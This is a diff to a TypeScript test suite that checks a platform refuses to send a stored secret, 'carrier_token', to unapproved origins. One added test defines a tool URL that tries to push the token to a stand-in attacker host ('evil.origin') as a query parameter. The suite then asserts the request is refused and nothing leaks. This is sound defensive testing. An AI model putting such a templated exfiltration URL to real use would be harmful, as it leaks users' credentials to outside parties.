@@ -60,7 +60,8 @@ describe.each(databasesOfRun)('a secret, on $kind', kind => {
     return Globals.parse(body).items.find(one => one.key === key)?.origins
   }
   const isLeaked = () => JSON.stringify(evil.seen).includes(SECRET)
-  const refusalAt = (origin: string) => `carrier_token may not be sent to ${origin}; an admin can allow it`
+  const refusalAt = (origin: string) =>
+    `carrier_token may not be sent to ${origin}; an admin can allow it on the server's Globals tab`
 
   it('gets its origins from the first binding, shows them, and is sent there', async () => {
     const { serverId, instanceId } = await makeDesk()
@@ -137,6 +138,16 @@ describe.each(databasesOfRun)('a secret, on $kind', kind => {
     const { id } = await builder.create(`/toolkits/${toolkitId}/tools`, { name: 'by_name', method: 'GET', url })
     const { body } = await builder.expectOk('POST', `/tools/${id}/test`, { arguments: {}, serverId })
     expect(JSON.stringify(body)).toContain(refusalAt(evil.origin))
+    expect(isLeaked()).toBe(false)
+  })
+
+  it('without origins is not sent while an admin tries a tool of a builder', async () => {
+    const { serverId, toolkitId } = await makeServer(admin, [])
+    await admin.expectOk('PUT', at(serverId), { value: SECRET, secret: true })
+    const definition = { method: 'GET', url: `${evil.origin}/?key={{carrier_token}}` }
+    const { id } = await builder.create(`/toolkits/${toolkitId}/tools`, { name: 'by_name', ...definition })
+    const tested = await admin.expectOk('POST', `/tools/${id}/test`, { arguments: {}, serverId })
+    expect(JSON.stringify(tested.body)).toContain(refusalAt(evil.origin))
     expect(isLeaked()).toBe(false)
   })
 
@@ -253,6 +264,22 @@ describe.each(databasesOfRun)('a secret, on $kind', kind => {
       expect(await call(builder, id)).toContain(refusalAt(evil.origin))
     }
     expect(isLeaked()).toBe(false)
+  })
+
+  it('that is stored after it was bound keeps the origin of an admin among a hundred of a builder', async () => {
+    // Tools are read in the order of their names.
+    const { serverId, toolkitId } = await makeServer(admin, [tool('zz_track', `${carrier.origin}/track`)], {
+      bindings: { zz_track: BOUND },
+    })
+    for (const name of ['a', 'b']) {
+      const allowedOrigins = Array.from({ length: 60 }, (_, index) => `https://${name}${index}.example.com`)
+      const wide = tool(name, '{{url:base}}/', { allowedOrigins })
+      const { id } = await builder.create(`/toolkits/${toolkitId}/tools`, wide)
+      await builder.create(`/servers/${serverId}/instances`, { toolId: id, name, bindings: BOUND })
+    }
+    expect((await put(admin, serverId, { value: SECRET, secret: true })).body).toMatchObject({
+      origins: [carrier.origin],
+    })
   })
 
   it('can be allowed elsewhere by an admin, without its value, and not by a builder', async () => {
